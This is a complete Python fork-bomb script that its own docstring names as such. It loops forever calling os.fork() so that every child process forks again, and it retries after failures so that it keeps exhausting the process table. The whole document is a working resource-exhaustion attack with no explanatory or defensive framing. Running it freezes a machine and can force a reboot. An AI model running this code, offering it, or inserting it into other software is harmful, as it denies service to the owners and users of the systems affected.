"""Classic fork bomb; every child forks too, failures are ignored."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
